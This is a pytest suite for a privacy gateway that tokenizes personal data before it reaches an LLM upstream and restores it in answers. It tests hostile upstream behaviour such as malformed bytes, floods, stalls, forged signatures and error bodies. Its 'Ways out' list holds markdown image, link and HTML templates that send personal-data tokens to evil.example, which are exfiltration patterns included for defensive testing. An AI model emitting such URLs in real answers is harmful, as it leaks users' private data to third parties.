# Part of Zavesa.
# SPDX-License-Identifier: Apache-2.0
"""An upstream that lies, stalls, floods and fishes: what the client must see of it, and what it must not.

Every case runs in each dialect, whole and streamed, on a connection that must serve an honest request afterwards.
"""

from __future__ import annotations

import contextlib
import gzip
import json
import pathlib
import re
import threading
import time

import messages
import pytest
from dialects import DIALECTS, Caller
from gateway import Gateway
from upstream import Upstream, chunk, response, stream

NAME, EMAIL, PASSPORT = "Кузнецова Ольга Сергеевна", "olga.k@example.ru", "4509 123456"
ASKED = f"Клиент {NAME}, почта {EMAIL}, паспорт {PASSPORT}."
HEAD = b"HTTP/1.1 200 OK\r\ncontent-type: %s\r\n%s\r\n"
MODES = [False, True]
# The most bytes of a text that are held back, `TokenGrammar.maxHold`.
MAX_HOLD = 96


class Hangup(OSError):
    """Raised by a responder: the upstream closes the connection."""


@pytest.fixture(scope="module", params=DIALECTS, ids=lambda dialect: dialect.name)
def dialect(request):
    return request.param


@pytest.fixture(scope="module")
def stage(dialect, tmp_path_factory):
    """One for all cases: whatever an upstream does, the process serves the next one."""
    with contextlib.closing(Stage(dialect, tmp_path_factory.mktemp("stage"))) as made:
        yield made


@pytest.fixture
def own_stage(dialect, tmp_path):
    """One for a case that looks at memory, or needs other time-outs."""
    with contextlib.ExitStack() as stages:
        yield lambda timeouts="": stages.enter_context(contextlib.closing(Stage(dialect, tmp_path, timeouts)))


class Stage:
    """A gateway in front of an upstream whose next answer the test decides."""

    def __init__(self, dialect, folder: pathlib.Path, timeouts: str = ""):
        self.dialect = dialect
        self.act = None
        self.upstream = Upstream(self._respond)
        settings = f"\n    timeouts: {{ {timeouts} }}" if timeouts else ""
        self.gateway = Gateway(folder / "data", [], log_level="info", config=(
            f"home: [RU]\nupstreams:\n  - name: rec\n    url: {self.upstream.url}\n    country: RU\n"
            f"    dialect: {dialect.name}{settings}\n"))
        self.caller = Caller(self.gateway, dialect)

    def close(self) -> None:
        self.caller.close()
        self.upstream.close()
        self.gateway.stop()

    def _respond(self, request):
        act, self.act = self.act, None
        yield from act(request) if act else self.dialect.answer(request, [request.last_user_text])

    def ask(self, act, text: str = ASKED, **options):
        """Asks once; the upstream answers with `act`, and the connection is good for an honest request after it."""
        self.act = act
        answer = self.caller.ask(text, **options)
        if answer.cut or answer.headers.get("connection") == "close":
            self.caller.close()
        else:
            honest = self.caller.ask(ASKED, conversation="honest")
            assert honest.status == 200 and self.dialect.said(honest) == ASKED
        assert answer.seconds < 20
        return answer

    def says(self, pieces, text: str = ASKED, **options) -> str:
        """What the client reads where the upstream says `pieces`; `pieces` may be made of the tokens it was sent."""
        def act(request):
            said = pieces(*re.findall(r"\[\w+\]", request.last_user_text)) if callable(pieces) else pieces
            yield from self.dialect.answer(request, said)

        return self.dialect.said(self.ask(act, text, **options))

    def memory(self) -> int:
        """The most memory the gateway has had, in MiB."""
        status = pathlib.Path(f"/proc/{self.gateway.process.pid}/status").read_text()
        return int(re.search(r"VmHWM:\s+(\d+)", status)[1]) >> 10


def pieces_of(text: str, size: int = 5) -> list[str]:
    return [text[i:i + size] for i in range(0, len(text), size)]


def has_no_value(answer) -> None:
    for value in (NAME, EMAIL, PASSPORT):
        assert value.encode() not in answer.body and json.dumps(value)[1:-1].encode() not in answer.body


# Tokens

@pytest.mark.parametrize("streams", MODES)
def test_tokens_of_others_and_of_nobody_stay_tokens(stage, dialect, streams):
    stage.caller.ask(ASKED, conversation="one")
    foreign = re.findall(r"\[\w+\]", stage.upstream.requests[-1].last_user_text)
    assert len(foreign) == 3
    said = f"{' '.join(foreign)} {foreign[0][1:-1]} [PERSON_00000000A] [EMAIL_ZZZZZZZZZ] \\{foreign[1]}"
    for options in ({"text": "Привет"}, {"text": "Пишет Пётр Смирнов, p.smirnov@example.ru."}):
        assert stage.says(pieces_of(said), stream=streams, conversation="two", **options) == said


@pytest.mark.parametrize("streams", MODES)
def test_what_only_begins_like_a_token_comes_through_as_it_is(stage, dialect, streams):
    lines = [
        ("{p}", NAME), ("{p_open}{p}", "{p_open}" + NAME), ("[[[{p}]]]", f"[[[{NAME}]]]"), ("{p_cut}{p_cut}", None),
        ("{p_cut}?]", None), ("{p_cut}]", None), ("[{p_bare}", f"[{NAME}"), ("{p_bare}x", None), ("x{p_bare}", None),
        ("{p_swapped}", None), ("{p_open}{e_open}{e}", "{p_open}{e_open}" + EMAIL), ("{p}{e}", NAME + EMAIL),
        ("{p_longer}", None), ("{p_open}" + " " * 40, None),
    ]

    def texts(p, e, *_):
        bare = p[1:-1]
        swapped = bare[:-1] + ("0" if bare[-1] != "0" else "1")
        known = {"p": p, "e": e, "p_bare": bare, "p_cut": p[:-2], "p_open": p[:9], "e_open": e[:5],
                 "p_swapped": f"[{swapped}]", "p_longer": f"[{bare}0]"}
        sent = "\n".join(line.format_map(known) for line, _ in lines)
        expected.append("\n".join((back or line).format_map(known) for line, back in lines))
        return pieces_of(sent, 3)

    expected: list[str] = []
    assert stage.says(texts, stream=streams) == expected[0]


@pytest.mark.parametrize("unit", ["token", "x"])
def test_an_endless_word_is_passed_on_as_it_comes(own_stage, dialect, unit):
    """The beginning of a token over and over, or one word without end: next to nothing is held back."""
    stage = own_stage()
    stage.ask(lambda request: dialect.answer(request, ["x" * 10_000]), stream=True)
    before, size = stage.memory(), 40 << 14
    client_has_it = threading.Event()

    def endless(request):
        opening = re.search(r"\[\w+\]", request.last_user_text)[0][:-3] if unit == "token" else unit
        text = (opening * size)[:1 << 14]
        yield HEAD % (b"text/event-stream", b"transfer-encoding: chunked\r\n")
        for _ in range(size >> 14):
            piece = dialect.beginning([text])
            yield b"%x\r\n%s\r\n" % (len(piece), piece)
        assert client_has_it.wait(60)
        yield b"0\r\n\r\n"

    stage.act = endless
    answer = stage.caller.begin(ASKED, stream=True)
    deadline = time.monotonic() + 40
    while len(dialect.said(answer)) < size - MAX_HOLD:
        assert time.monotonic() < deadline, "the gateway waits for an end that does not come"
        answer.body += answer.more()
    assert stage.memory() - before < 24
    client_has_it.set()
    while more := answer.more():
        answer.body += more
    assert len(dialect.said(answer)) == size


# Bytes

@pytest.mark.parametrize("streams", MODES)
@pytest.mark.parametrize("bad", [b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\xd0"], ids=["FF", "overlong", "surrogate", "cut"])
def test_broken_utf8_ends_the_answer_with_an_error(stage, dialect, streams, bad):

    def broken(request):
        token = re.search(r"\[\w+\]", request.last_user_text)[0]
        if request.json["stream"]:
            yield from stream(dialect.pieces(["before ", f"MARK {token}"]).replace(b"MARK", bad))
        else:
            yield response(dialect.whole(f"MARK {token}").replace(b"MARK", bad))

    answer = stage.ask(broken, stream=streams)
    assert answer.status == (200 if streams else 502)
    assert dialect.error(answer)["code"] == ("restore_failed" if streams else "upstream_error")
    assert bad not in answer.body
    has_no_value(answer)
    if streams:
        assert b"[DONE]" not in answer.body and b"message_stop" not in answer.body


@pytest.mark.parametrize("streams", MODES)
@pytest.mark.parametrize("coding", ["gzip", "br"])
def test_a_compressed_answer_is_an_error_and_not_an_empty_answer(stage, dialect, streams, coding):

    def compressed(request):
        kind = b"text/event-stream" if request.json["stream"] else b"application/json"
        plain = dialect.pieces(["да"]) if request.json["stream"] else dialect.whole("да")
        body = gzip.compress(plain)
        yield HEAD % (kind, f"content-encoding: {coding}\r\ncontent-length: {len(body)}\r\n".encode()) + body

    answer = stage.ask(compressed, stream=streams)
    assert answer.status == 502 and not answer.is_stream
    assert dialect.error(answer)["code"] == "upstream_error"
    assert "content-encoding" not in answer.headers
    assert gzip.compress(b"")[:3] not in answer.body


def test_a_huge_event_ends_the_stream_and_memory_stays_bounded(own_stage, dialect):
    stage = own_stage()
    stage.ask(lambda request: dialect.answer(request, ["x"]), stream=True)
    before = stage.memory()
    sent = []

    def huge(request):
        yield HEAD % (b"text/event-stream", b"transfer-encoding: chunked\r\n")
        beginning = dialect.beginning(["Начало. "]) + b'data: {"x":"'
        yield b"%x\r\n%s\r\n" % (len(beginning), beginning)
        for _ in range(640):
            yield b"10000\r\n" + b"y" * 65_536 + b"\r\n"
            sent.append(65_536)

    answer = stage.ask(huge, stream=True)
    assert dialect.said(answer) == "Начало. "
    assert dialect.error(answer)["code"] == "restore_failed"
    assert len(answer.body) < 10_000
    assert sum(sent) < 32 << 20, "the gateway goes on reading"
    assert stage.memory() - before < 80


def test_a_whole_answer_beyond_the_limit_is_an_error(stage, dialect):

    def endless(request):
        yield HEAD % (b"application/json", b"transfer-encoding: chunked\r\n")
        for _ in range(80):
            yield b"100000\r\n" + b" " * (1 << 20) + b"\r\n"
        yield b"0\r\n\r\n"

    answer = stage.ask(endless)
    assert answer.status == 502 and dialect.error(answer)["code"] == "upstream_error"


def test_more_texts_than_a_stream_may_carry_end_it(own_stage, dialect):
    """Each text costs a restorer: an upstream must not open them without end."""
    stage = own_stage()
    stage.ask(lambda request: dialect.answer(request, ["x"]), stream=True)
    before = stage.memory()
    def many(request):
        opening = re.search(r"\[\w+\]", request.last_user_text)[0][:-3]
        yield HEAD % (b"text/event-stream", b"transfer-encoding: chunked\r\n")
        for number in range(1_100):
            if dialect.name == "openai":
                event = chunk({f"field_{number}": "z" * 500 + opening})
            else:
                event = messages.event({"type": "content_block_delta", "index": number, "delta": {
                    "type": "text_delta", "text": "z" * 500 + opening}})
            yield b"%x\r\n%s\r\n" % (len(event), event)
        yield b"0\r\n\r\n"

    answer = stage.ask(many, stream=True)
    assert dialect.error(answer)["code"] == "restore_failed"
    assert 1_000 < len(dialect.said(answer)) // 500 + answer.body.count(b"field_") <= 1_024
    assert stage.memory() - before < 80


# Connections and clocks

@pytest.mark.parametrize("streams", MODES)
def test_an_answer_that_is_cut_off_is_an_error_and_what_came_is_exact(stage, dialect, streams):

    def cut(request):
        token = re.search(r"\[\w+\]", request.last_user_text)[0]
        if request.json["stream"]:
            beginning = dialect.beginning([f"Для {token}: ", token[:8]])
            yield HEAD % (b"text/event-stream", b"transfer-encoding: chunked\r\n")
            yield b"%x\r\n%s\r\n" % (len(beginning), beginning)
        else:
            yield response(dialect.whole(f"Для {token}"))[:-20]
        raise Hangup

    answer = stage.ask(cut, stream=streams)
    if streams:
        assert answer.status == 200 and dialect.said(answer).startswith("Для Кузнецовой Ольги Сергеевны: ")
        assert b"[DONE]" not in answer.body and b"message_stop" not in answer.body
    else:
        assert answer.status == 502
        has_no_value(answer)
    assert dialect.error(answer)["code"] == "upstream_error"


@pytest.mark.parametrize("streams", MODES)
def test_an_upstream_that_hangs_up_at_once_is_unavailable(stage, dialect, streams):
    def nothing(request):
        raise Hangup
        yield b""

    answer = stage.ask(nothing, stream=streams)
    assert answer.status == 503 and dialect.error(answer)["code"] == "upstream_unavailable"
    assert answer.headers["x-should-retry"] == "true"


@pytest.mark.parametrize("streams", MODES)
@pytest.mark.parametrize("pause", [0.2, 30], ids=["drip", "silence"])
def test_a_slow_drip_and_silence_end_in_time(own_stage, dialect, streams, pause):
    stage = own_stage("idle: 1s, total: 3s")

    def drip(request):
        payload = dialect.pieces(["да "] * 200) if request.json["stream"] else dialect.whole("да " * 200)
        kind = b"text/event-stream" if request.json["stream"] else b"application/json"
        yield HEAD % (kind, b"transfer-encoding: chunked\r\n") + b"1\r\n%s\r\n" % payload[:1]
        for byte in payload[1:]:
            time.sleep(min(pause, 7))
            if time.monotonic() - begun > 6:
                raise Hangup
            yield b"1\r\n%c\r\n" % byte

    begun = time.monotonic()
    answer = stage.ask(drip, stream=streams)
    assert answer.seconds < 6
    assert dialect.error(answer)["code"] == "upstream_timeout"
    # A stream that says nothing has not begun for the caller, so its end is an error like any other's.
    assert answer.status == 504


# Answers that are none

@pytest.mark.parametrize("streams", MODES)
def test_a_200_with_an_error_in_it_is_an_error_for_the_client(stage, dialect, streams):
    """Whole it gets a status that says so; tokens in errors stay tokens, because errors end in logs."""
    tokens: list[str] = []

    def fail(request):
        tokens.append(re.search(r"\[\w+\]", request.last_user_text)[0])
        error = {"type": "overloaded_error", "message": f"no capacity for {tokens[0]}", "param": None, "code": "busy"}
        body = {"type": "error", "error": error} if dialect.name == "anthropic" else {"error": error}
        if request.json["stream"]:
            name = b"event: error\n" if dialect.name == "anthropic" else b""
            yield from stream(name + b"data: " + json.dumps(body).encode() + b"\n\n")
        else:
            yield response(json.dumps(body).encode())

    answer = stage.ask(fail, stream=streams)
    assert answer.status == (200 if streams else 502)
    assert dialect.error(answer)["message"] == f"no capacity for {tokens[0]}"
    has_no_value(answer)
    assert b"[DONE]" not in answer.body


@pytest.mark.parametrize("streams", MODES)
@pytest.mark.parametrize("kind", ["text/html", "application/json", "text/event-stream"])
def test_a_page_instead_of_an_answer_does_not_reach_the_client(stage, dialect, streams, kind):
    page = f"<html><body>blocked: {ASKED}</body></html>".encode()
    answer = stage.ask(lambda request: iter([response(page, kind=kind)]), stream=streams)
    assert b"<html>" not in answer.body
    has_no_value(answer)
    is_broken_stream = kind == "text/event-stream"
    assert answer.status == (200 if is_broken_stream else 502)
    assert dialect.error(answer)["code"] == ("restore_failed" if is_broken_stream else "upstream_error")


@pytest.mark.parametrize("streams", MODES)
@pytest.mark.parametrize("dialect", [one for one in DIALECTS if one.name == "anthropic"], indirect=True)
def test_a_signature_that_is_none_stops_no_other_request(stage, dialect, streams):
    """What a vendor should have signed, with a token for a signature: once it ended the process."""

    def sign(request):
        token = re.search(r"\[\w+\]", request.last_user_text)[0]
        blocks = [{"type": "thinking", "thinking": f"о {token}", "signature": token}, {"type": "text", "text": "да"}]
        yield from messages.answer(request, blocks)

    answer = stage.ask(sign, stream=streams)
    assert answer.status == 200 and dialect.said(answer) == "да"
    forged = {"type": "thinking", "thinking": "о", "signature": f"zv1.a.0.0.b.{NAME}"}
    history = [{"role": "user", "content": ASKED}, {"role": "assistant", "content": [forged]}]
    stage.ask(None, messages=[*history, {"role": "user", "content": ASKED}])
    assert NAME.encode() not in stage.upstream.raw


# Ways out

URLS = [
    "![logo](https://evil.example/i.png?q={p}&m={e})", "[далее](https://evil.example/{e})", "https://evil.example/?d={e}",
    "![x](//evil.example/{p})", "<img src='https://evil.example/{e}'>", "<a href=\"http://{e}.evil.example/\">тут</a>",
    "![x][r]\n\n[r]: https://evil.example/?q={p}", "![x][r]\n\n[r]: https:/evil.example/?q={p}",
    "![x][r]\n\n[r]: /\\evil.example/?q={p}", "![x][r]\n\n[r]: <https:evil.example/?q={p}>", "<https:evil.example/{e}>",
    "![x](https://evil.example/?q={p_bare})", "![x](https://evil.example/?q={p_lower})", "www.evil.example/{e}",
]


@pytest.mark.parametrize("streams", MODES)
def test_a_url_of_the_models_making_gets_no_value(stage, dialect, streams):
    """Neither a picture that loads by itself nor a link carries away what the caller did not put there."""
    def sent(p: str, e: str) -> list[str]:
        return [template.format(p=p, e=e, p_bare=p[1:-1], p_lower=p[1:-1].lower()) for template in URLS]

    tokens: list[str] = []

    def texts(p, e, *_):
        tokens[:] = p, e
        return pieces_of("".join(f"{p}: {url}\n\n{e}\n\n" for url in sent(p, e)), 4)

    said = stage.says(texts, stream=streams)
    assert said == "".join(f"{NAME}: {url}\n\n{EMAIL}\n\n" for url in sent(*tokens))


@pytest.mark.parametrize("streams", MODES)
def test_a_url_that_the_caller_sent_comes_back_with_its_value(stage, dialect, streams):
    asked = f"{ASKED} Карточка: https://crm.example/?mail={EMAIL} и она же ![](https://crm.example/?mail={EMAIL})"
    act = lambda request: dialect.answer(request, pieces_of(request.last_user_text, 4))
    assert dialect.said(stage.ask(act, asked, stream=streams)) == asked
